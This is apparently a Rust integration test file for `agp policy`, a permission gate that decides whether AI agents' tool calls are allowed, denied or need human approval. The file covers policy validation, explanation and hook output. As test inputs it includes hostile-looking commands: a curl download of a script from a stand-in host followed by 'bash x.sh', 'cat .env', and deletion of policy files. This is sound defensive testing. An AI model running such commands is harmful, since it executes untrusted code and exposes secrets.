//! `agp policy`: each command through the real binary, with its errors.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a JSON value indexed by a name it lacks is null; whatever fails here fails the test"
)]
#![allow(
    dead_code,
    reason = "the support module serves other tests too, with more than these use"
)]

use crate::support::session;

use std::fs;
use std::io::Write;
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use session::World;

/// Runs `agp policy` with a text on standard input; gives exit code and standard output.
fn piped(world: &World, arguments: &[&str], input: &str) -> (i32, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_agp"))
        .arg("policy")
        .args(arguments)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", world.root().join("home"))
        .env("AGP_HOME", world.agp_home())
        .current_dir(world.repo())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    // It may end before it has read all.
    let _ = child.stdin.take().unwrap().write_all(input.as_bytes());
    let output = child.wait_with_output().unwrap();
    let out = String::from_utf8(output.stdout).unwrap();
    (output.status.code().unwrap(), out)
}

fn lines(out: &str) -> Vec<Value> {
    let lines = out.lines();
    lines
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

fn hook(command: &str, session: Option<&str>) -> String {
    json!({"tool_name": "Bash", "tool_input": {"command": command}, "session_id": session})
        .to_string()
}

#[test]
fn check_says_what_is_wrong_and_where() {
    let world = World::empty();
    world.agp(&["init"]).run().succeeded();
    world
        .agp(&["policy", "check"])
        .run()
        .succeeded()
        .said(&["no errors, 0 warnings"]);
    let check = |text: &str, more: &[&str]| {
        world.put("p.json", text);
        world
            .agp(&["policy", "check", "p.json"])
            .arguments(more)
            .run()
    };
    let typing = "{\n  \"rules\": [\n    { \"id\": \"a\", \"efect\": \"deny\" } ] }\n";
    check(typing, &[])
        .exited(1)
        .said(&["p.json:3:", "error: ", "efect"]);
    let base = "{ \"base\": \"standard\",\n  \"drop\": [\"look\", \"lok\"] }";
    check(base, &[])
        .exited(1)
        .said(&["p.json:2:20: error: ", "\"lok\""]);
    check("{ \"base\": \"lax\" }", &[])
        .exited(1)
        .said(&["p.json:1:11: error: "]);
    let odd = json!({"base": "standard", "unread": "allow", "rules": [
        {"id": "w", "effect": "allow", "when": {"command": ["bash *"]}},
        {"id": "e", "effect": "allow", "tool": "Read", "until": "2020-01-01"},
        {"id": "p", "effect": "allow", "when": {"command": ["git push origin *"]}},
        {"id": "t", "effect": "deny", "tool": "Frobnicate"},
    ]});
    let odd = serde_json::to_string_pretty(&odd).unwrap();
    let kinds = [
        "too-wide",
        "expired",
        "unreachable",
        "unknown-tool",
        "unread-allowed",
    ];
    let mut plain = check(&odd, &[]).succeeded();
    for kind in kinds {
        plain = plain.said(&[&format!("[{kind}]")]);
    }
    let found: Value = serde_json::from_str(&check(&odd, &["--json"]).succeeded().out).unwrap();
    assert_eq!(found["ok"], true);
    assert_eq!(found["findings"].as_array().unwrap().len(), kinds.len());
    let sarif: Value = serde_json::from_str(&check(&odd, &["--sarif"]).succeeded().out).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results.len(), kinds.len());
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap();
    for result in results {
        assert!(rules.iter().any(|rule| rule["id"] == result["ruleId"]));
        let place = &result["locations"][0]["physicalLocation"];
        assert_eq!(place["artifactLocation"]["uri"], "p.json");
        assert!(place["region"]["startLine"].as_u64().unwrap() > 0);
    }
    check(&odd, &["--sarif", "--json"]).exited(2);
    world
        .agp(&["policy", "check", "none.json"])
        .run()
        .exited(2)
        .complained(&["none.json"]);
}

#[test]
fn check_says_every_fault_of_a_policy_and_of_the_repositorys() {
    let world = World::empty();
    world.agp(&["init"]).run().succeeded();
    let faulty = r#"{ "danger": { "delet": "deny" },
  "rules": [
    { "id": "a", "efect": "deny" },
    { "id": "b", "effect": "deny", "when": { "command": ["sed \\( | x"] } },
    { "id": "c", "effect": "deny", "tool": "Bash" },
    { "id": "c", "effect": "deny", "tool": "Read" },
    { "id": "d", "effect": "allow", "tool": "Bash(git push:*)" },
    { "id": "e, ]}", "effect": "perhaps", "tool": "Bash" }
  ] }
"#;
    world.put("p.json", faulty);
    let check = world.agp(&["policy", "check", "p.json"]).run().exited(1);
    let lines: Vec<&str> = check.out.lines().collect();
    let at = |line: &str| lines.iter().filter(|said| said.starts_with(line)).count();
    for line in 1..=8 {
        let expected = usize::from(![2, 5].contains(&line));
        assert_eq!(at(&format!("p.json:{line}:")), expected, "{}", check.out);
    }
    let check = check.said(&["p.json: 6 errors"]);
    // As the file has it.
    assert!(check.out.contains(r#""sed \\( | x""#), "{}", check.out);
    world.put(
        "p.json",
        r#"{ "base": "standard", "drop": ["look", "lok", "lak"] }"#,
    );
    world
        .agp(&["policy", "check", "p.json"])
        .run()
        .exited(1)
        .said(&["\"lok\"", "\"lak\"", "2 errors"]);
    // What is no JSON has one fault that can be told.
    world.put("p.json", "{ \"rules\": [ {} {} ] }");
    world
        .agp(&["policy", "check", "p.json"])
        .run()
        .exited(1)
        .said(&["1 error"]);
    world.put("p.json", " \n");
    world
        .agp(&["policy", "check", "p.json"])
        .run()
        .exited(1)
        .said(&["the file is empty"]);
    // Without a file, the repository's, too.
    world.put(
        ".agp/policy.json",
        r#"{"rules":[{"id":"a","effect":"allow","tool":"Bash"},{"id":"b","effect":"allow","tool":"Read"}]}"#,
    );
    let plain = world.agp(&["policy", "check"]).run().exited(1);
    let plain = plain.said(&["no errors, 0 warnings", ".agp/policy.json: 2 errors"]);
    assert_eq!(
        plain.out.matches("can only deny").count(),
        2,
        "{}",
        plain.out
    );
    let json = world.agp(&["policy", "check", "--json"]).run().exited(1);
    assert_eq!(json.out.lines().count(), 2);
    let sarif = world.agp(&["policy", "check", "--sarif"]).run().exited(1);
    let sarif: Value = serde_json::from_str(&sarif.out).unwrap();
    assert_eq!(sarif["runs"][0]["results"].as_array().unwrap().len(), 2);
}

#[test]
fn a_policy_that_cannot_be_read_says_where_it_is_named() {
    let world = World::empty();
    world.agp(&["init"]).run().succeeded();
    let home = world.agp_home();
    let explain = || world.agp(&["policy", "explain", "--command", "ls"]).run();
    let projects = json!({"projects": {world.path("."): {"policy": "site.json"}}});
    std::fs::write(home.join("config.json"), projects.to_string()).unwrap();
    explain()
        .exited(2)
        .complained(&["site.json", "config.json"]);
    let policy = home.join("site.json");
    std::fs::create_dir(&policy).unwrap();
    explain().exited(2).complained(&["it is a directory"]);
    std::fs::remove_dir(&policy).unwrap();
    std::fs::write(&policy, "").unwrap();
    explain().exited(1).complained(&["the file is empty"]);
}

#[test]
fn explain_shows_each_part_and_each_rule() {
    let world = World::empty();
    world.agp(&["init"]).run().succeeded();
    world.put(".env", "T=1\n");
    let explain = |arguments: &[&str]| {
        let words = ["policy", "explain"];
        world.agp(&words).arguments(arguments).run()
    };
    let run = explain(&["--command", "git -C . push && cat .env"]).succeeded();
    run.said(&[
        "matches   require by rule publish",
        "matches   deny by rule env, by the sandbox too",
        "verdict     deny",
        "no match  think, ",
    ]);
    let policy = json!({"rules": [{"id": "x", "effect": "deny", "when": {"read": ["/srv/x"]}}]});
    world.put("p.json", &policy.to_string());
    let args = json!({"file_path": "/srv/x"}).to_string();
    let masked = explain(&["--tool", "Read", "--args", &args, "--policy", "p.json"]).succeeded();
    // Nothing lies there that a mount could hide.
    masked.said(&["deny by rule x, by reading"]);
    let policy = json!({"base": "standard", "rules": [
        {"id": "ci-only", "effect": "deny", "when": {"write": [".github/**"]}},
        {"id": "net", "effect": "deny", "when": {"host": ["x.test"]}},
        {"id": "url", "effect": "deny", "when": {"host": ["https://y.test/private/*"]}},
    ]});
    world.put("p.json", &policy.to_string());
    let held = |command: &str, arguments: &[&str], by: &str| {
        let words = [&["--policy", "p.json", "--command", command], arguments].concat();
        explain(&words).succeeded().said(&[&format!(", by {by}")]);
    };
    world.put(".github/ci.yml", "steps\n");
    held("rm .github/ci.yml", &[], "the sandbox too");
    held("rm .github/ci.yml", &["--unconfined"], "reading");
    held(
        "touch a/.github/ci.yml .env.new; cat .env.new",
        &[],
        "reading",
    );
    held("cat .env", &["--no-disk"], "reading");
    let unseen = explain(&["--no-disk", "--command", "cargo test"]).succeeded();
    unseen.said(&["verdict     allow"]);
    held("curl https://x.test/", &[], "the sandbox too");
    held(
        "curl https://x.test/",
        &["--egress", "allowlist"],
        "the sandbox too",
    );
    held("curl https://x.test/", &["--egress", "full"], "reading");
    // The proxy does not see what lies behind TLS.
    held(
        "curl https://y.test/private/a",
        &["--egress", "allowlist"],
        "reading",
    );
    let (code, out) = piped(
        &world,
        &["explain", "--harness", "claude-code", "--json"],
        &hook("git push", None),
    );
    let explained: Value = serde_json::from_str(&out).unwrap();
    assert_eq!((code, &explained["decision"]), (0, &json!("require")));
    explain(&["--set", "@plan"])
        .succeeded()
        .said(&["ExitPlanMode"]);
    explain(&["--set", "@reads"]).succeeded().said(&["cat"]);
    for (wrong, said) in [
        (&[] as &[&str], "no call is named"),
        (&["--set", "@read"], "unknown set"),
        (&["--command", "ls", "--tool", "Read"], "more than one call"),
        (&["--tool", "Read", "--args", "[]"], "no JSON object"),
        (&["--command", "ls", "--egress", "some"], "unknown egress"),
        (&["--harness", "pi"], "unknown harness"),
        (&["--command", "ls", "--policy", "none.json"], "none.json"),
    ] {
        explain(wrong).exited(2).complained(&[said]);
    }
}

#[test]
fn a_repositorys_policy_is_checked_as_such_and_a_homes_own_is_none() {
    let world = World::empty();
    world.agp(&["init"]).run().succeeded();
    world.put(
        ".agp/policy.json",
        r#"{"rules":[{"id":"a","effect":"allow","tool":"Bash"}]}"#,
    );
    let check = ["policy", "check", ".agp/policy.json"];
    let refused = world.agp(&check).run().exited(1);
    refused.said(&["a repository's policy can only deny and require"]);
    // In one's home directory `.agp` is agp's home.
    let home = world.path(".agp");
    world.agp(&check).env("AGP_HOME", &home).run().succeeded();
    let explain = ["policy", "explain", "--command", "ls"];
    world.agp(&explain).env("AGP_HOME", &home).run().succeeded();
}

#[test]
fn decide_answers_each_line() {
    let world = World::empty();
    world.agp(&["init"]).run().succeeded();
    let base = ["decide", "--harness", "claude-code"];
    let input = [
        &hook("ls -la", None),
        "garbage",
        &hook("git push", None),
        r#"{"tool_name":"Bash","tool_input":"ls"}"#,
        r#"{"tool_name":"Bash","tool_name":"Read","tool_input":{}}"#,
        "",
        &hook("$X a", None),
        &format!("{{\"x\":\"{}\"}}", "x".repeat(1 << 20)),
        &hook("ls", None),
    ]
    .join("\n");
    let (code, out) = piped(&world, &base, &input);
    let answers = lines(&out);
    let decisions: Vec<&str> = answers
        .iter()
        .map(|answer| answer["decision"].as_str().unwrap())
        .collect();
    let expected = [
        "allow", "deny", "require", "deny", "deny", "require", "deny", "allow",
    ];
    assert_eq!((code, decisions.as_slice()), (0, &expected[..]));
    assert_eq!(answers[2]["ruleId"], "publish");
    assert!(!answers[5]["unread"].as_array().unwrap().is_empty());
    let unconfined = [&base[..], &["--policy", "p.json", "--unconfined"]].concat();
    let policy = json!({"otherwise": "require", "rules": [
        {"id": "c", "effect": "allow", "when": {"command": ["ls *"], "confined": true}},
    ]});
    world.put("p.json", &policy.to_string());
    let code = hook("ls", None);
    let decision =
        |arguments: &[&str]| lines(&piped(&world, arguments, &code).1)[0]["decision"].clone();
    assert_eq!(decision(&unconfined), "require");
    assert_eq!(
        decision(&[&base[..], &["--policy", "p.json", "--egress", "full"]].concat()),
        "require"
    );
    assert_eq!(
        decision(&[&base[..], &["--policy", "p.json"]].concat()),
        "allow"
    );
    // What is agp's own is so as in a session, the repository's policy too.
    world.put(".agp/policy.json", r#"{"rules":[]}"#);
    let removed = hook("find . -name 'pol*' -delete", None);
    let answer = &lines(&piped(&world, &base, &removed).1)[0];
    assert_eq!(answer["decision"], "deny", "{answer}");
    let wrong = [&unconfined[..], &["--confined"]].concat();
    assert_eq!(piped(&world, &wrong, "").0, 2);
    assert_eq!(piped(&world, &["decide", "--harness", "pi"], "").0, 2);
    let gone = [&base[..], &["--repo", "none"]].concat();
    assert_eq!(piped(&world, &gone, "").0, 2);
}

#[test]
fn decide_shares_memory_within_a_session_and_answers_as_a_hook() {
    let world = World::empty();
    let policy = json!({"danger": {"*": "require"}, "rules": [
        {"id": "all", "effect": "allow", "tool": "*"},
        {"id": "any", "effect": "allow", "when": {"command": ["curl *", "bash *"], "confined": true}},
    ]});
    world.put("p.json", &policy.to_string());
    let base = ["decide", "--harness", "claude-code", "--policy", "p.json"];
    let (get, go) = ("curl -o x.sh https://a.example/x.sh", "bash x.sh");
    let input = [
        hook(get, Some("a")),
        hook(go, Some("b")),
        hook(go, Some("a")),
    ];
    let (_, out) = piped(&world, &base, &input.join("\n"));
    let reasons: Vec<bool> = lines(&out)
        .iter()
        .map(|answer| {
            answer["reason"]
                .as_str()
                .unwrap()
                .contains("from the network in this session")
        })
        .collect();
    assert_eq!(reasons, [false, false, true], "{out}");
    world.agp(&["init"]).run().succeeded();
    let input = [hook("ls", None), hook("git push", None)].join("\n");
    let answer = |harness: &str| {
        let (_, out) = piped(
            &world,
            &["decide", "--harness", harness, "--as-hook"],
            &input,
        );
        lines(&out)
    };
    let claude = answer("claude-code");
    let say = |answer: &Value| answer["hookSpecificOutput"]["permissionDecision"].clone();
    assert_eq!(
        (say(&claude[0]), say(&claude[1])),
        (json!("allow"), json!("deny"))
    );
    let reason = claude[1]["hookSpecificOutput"]["permissionDecisionReason"].to_string();
    assert!(reason.contains("needs a person's approval"), "{reason}");
    let codex = answer("codex");
    assert_eq!((&codex[0], say(&codex[1])), (&json!({}), json!("deny")));
}

#[test]
fn cases_are_tested_and_those_that_fail_are_shown() {
    let world = World::empty();
    world.put(
        "cases.jsonl",
        concat!(
            "{\"policy\": \"standard\", \"git\": true, \"files\": {\"a.txt\": \"x\", \"l\": {\"link\": \".git/hooks/pre-commit\"}}}\n",
            "{\"command\": \"cat a.txt\", \"expect\": \"allow\"}\n",
            "{\"command\": \"git push\", \"expect\": \"require\", \"rule\": \"publish\"}\n",
            "{\"tool\": \"Write\", \"args\": {\"file_path\": \"{{repo}}/l\", \"content\": \"\"}, \"expect\": [\"require\", \"deny\"], \"danger\": \"persistence\"}\n",
        ),
    );
    let test = |file: &str| world.agp(&["policy", "test", file]).run();
    test("cases.jsonl")
        .succeeded()
        .said(&["3 cases, 0 failing"]);
    let header = "{\"policy\": \"standard\", \"askedAtMost\": 0}\n";
    let wrong = "{\"command\": \"git push\", \"expect\": \"allow\", \"why\": \"because\"}\n";
    world.put("wrong.jsonl", &format!("{header}{wrong}"));
    let failed = test("wrong.jsonl").exited(1);
    failed.said(&[
        "wrong.jsonl:2: git push",
        "expected allow",
        "got require: rule 'publish'",
        "because",
    ]);
    let json = world
        .agp(&["policy", "test", "--json", "wrong.jsonl"])
        .run()
        .exited(1);
    let json: Value = serde_json::from_str(&json.out).unwrap();
    assert_eq!(
        (&json["ok"], &json["failing"][0]["line"]),
        (&json!(false), &json!(2))
    );
    for (text, said) in [
        ("", "no cases"),
        (wrong, "begins with a line that names a policy"),
        ("{\"policy\": \"lax\"}", "lax"),
        ("{\"policy\": \"standard\", \"fils\": {}}", "fils"),
        (
            "{\"policy\": \"standard\", \"files\": {\"../x\": \"\"}}",
            "relative to the repository",
        ),
        (
            "{\"policy\": \"standard\"}\n{\"expect\": \"allow\"}",
            "bad.jsonl:2",
        ),
    ] {
        world.put("bad.jsonl", text);
        test("bad.jsonl").exited(2).complained(&[said]);
    }
    world.agp(&["policy", "test"]).run().exited(2);
}

#[test]
fn a_journal_is_replayed_and_what_would_have_spared_its_questions_is_said() {
    let world = World::new();
    world.policy(&[("allow", "*")]);
    let long = "x".repeat(1 << 15);
    let calls = [
        json!({"tool": "Bash", "args": {"command": "ls"}}),
        json!({"tool": "Bash", "args": {"command": "git push origin main"}}),
        json!({"tool": "Bash", "args": {"command": format!("echo {long}")}}),
    ];
    let calls: Vec<String> = calls.iter().map(ToString::to_string).collect();
    world.put("calls.jsonl", &calls.join("\n"));
    world
        .agp(&["run", "--script", "calls.jsonl"])
        .run()
        .succeeded();
    let log = world.agp_home().join("audit.log");
    let log = log.to_str().unwrap();
    let before = fs::read(log).unwrap();
    let replay = |more: &[&str]| {
        let words = ["policy", "replay", log, "--policy", "standard"];
        world.agp(&words).arguments(more).run()
    };
    replay(&[]).succeeded().said(&[
        "allow -> require: Bash git push origin main",
        "undecidable",
        "3 calls: 1 would change, 1 undecidable",
    ]);
    let json: Value = serde_json::from_str(&replay(&["--json"]).succeeded().out).unwrap();
    assert_eq!(json["changes"][0]["is"], "require");
    world
        .agp(&["policy", "replay", "calls.jsonl", "--policy", "standard"])
        .run()
        .exited(2)
        .complained(&["line 1 is no event"]);
    assert_eq!(fs::read(log).unwrap(), before);
}

#[test]
fn the_narrowest_rules_that_would_have_spared_a_question_are_suggested() {
    let world = World::new();
    world.policy(&[("require", "*")]);
    let calls = ["date +%s", "git push origin main"]
        .map(|command| json!({"tool": "Bash", "args": {"command": command}}).to_string());
    world.put("calls.jsonl", &calls.join("\n"));
    world
        .agp(&["run", "--script", "calls.jsonl"])
        .env("AGP_AUTO_APPROVE", "1")
        .run()
        .succeeded();
    assert_eq!(world.events("approval.granted").len(), 2);
    let policy = json!({"otherwise": "require", "rules": [
        {"id": "push", "effect": "require", "when": {"command": ["git push *"]}},
    ]});
    world.put("p.json", &policy.to_string());
    let log = world.agp_home().join("audit.log");
    let suggest = [
        "policy",
        "suggest",
        log.to_str().unwrap(),
        "--policy",
        "p.json",
    ];
    let run = world.agp(&suggest).run().succeeded();
    let run = run.complained(&[
        "suggested-1: spares 1 question",
        "no allow rule spares Bash git push",
        "rule 'push'",
    ]);
    let rules: Value = serde_json::from_str(&run.out).unwrap();
    let expected = json!({"rules": [
        {"id": "suggested-1", "effect": "allow", "when": {"command": ["date +%s"]}},
    ]});
    assert_eq!(rules, expected);
    world
        .agp(&["policy", "suggest", "calls.jsonl"])
        .run()
        .exited(2);
}

#[test]
fn permissions_are_imported_and_what_cannot_be_said_is_named() {
    let world = World::empty();
    let settings = json!({"permissions": {"allow": ["Bash(npm run test:*)"], "deny": ["Read(./.env)", "Skill(x)"]}});
    world.put("settings.json", &settings.to_string());
    let run = world
        .agp(&["policy", "import", "settings.json"])
        .run()
        .succeeded();
    let run = run.complained(&["not imported: Skill(x)"]);
    let rules: Value = serde_json::from_str(&run.out).unwrap();
    assert_eq!(rules["rules"].as_array().unwrap().len(), 2);
    world.put("p.json", &run.out);
    world.agp(&["policy", "check", "p.json"]).run().succeeded();
    world.put("no.json", "{}");
    for file in ["no.json", "none.json"] {
        world
            .agp(&["policy", "import", file])
            .run()
            .exited(2)
            .complained(&[file]);
    }
}

#[test]
fn doctor_says_what_check_says() {
    let world = World::empty();
    world.agp(&["init"]).run().succeeded();
    let policy = world.agp_home().join("policy.json");
    fs::write(
        policy,
        r#"{"rules":[{"id":"a","effect":"allow","tool":"*"}]}"#,
    )
    .unwrap();
    let run = world
        .agp(&["doctor", "--check", "policy"])
        .run()
        .succeeded();
    run.said(&["`agp policy check` finds no errors, 1 warning"]);
}
